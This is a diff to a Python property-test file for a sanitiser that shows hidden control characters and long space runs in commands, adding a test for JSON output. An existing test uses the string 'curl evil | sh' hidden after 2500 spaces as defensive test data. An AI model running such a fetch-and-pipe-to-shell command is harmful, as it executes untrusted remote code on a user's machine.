@@ -8,6 +8,7 @@ what is shown holds no control, format or separator character.
 
 from __future__ import annotations
 
+import json
 import re
 import unicodedata
 
@@ -15,7 +16,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from subagents._visible import SPACE_RUN, visible, visible_command
+from subagents._visible import SPACE_RUN, json_safe, visible, visible_command
 
 _SIGN = re.compile(r"⟨(?:U\+([0-9A-F]{4,6})|(\d+) spaces)⟩")
 
@@ -123,3 +124,18 @@ def test_a_long_run_of_spaces_is_counted_and_the_tail_shown() -> None:
     assert visible_command(command) == "ls⟨2500 spaces⟩; curl evil | sh"
     assert visible_command("a  b\tc\rd\ne") == "a  b␉c␍d\ne"
     assert visible_command("echo ⟨3 spaces⟩") == "echo ⟨U+27E8⟩3 spaces⟩"
+
+
+json_values = st.recursive(
+    st.none() | st.booleans() | st.integers() | hostile_text,
+    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(hostile_text, inner, max_size=4),
+    max_leaves=12,
+)
+
+
+@given(json_values)
+def test_json_safe_keeps_the_value_and_writes_nothing_a_terminal_obeys(value: object) -> None:
+    for indent in (None, 2):
+        text = json_safe(json.dumps(value, ensure_ascii=False, indent=indent))
+        assert json.loads(text) == value
+        assert not any(unsafe(c) or c == "\x7f" for c in text if c != "\n"), repr(text)
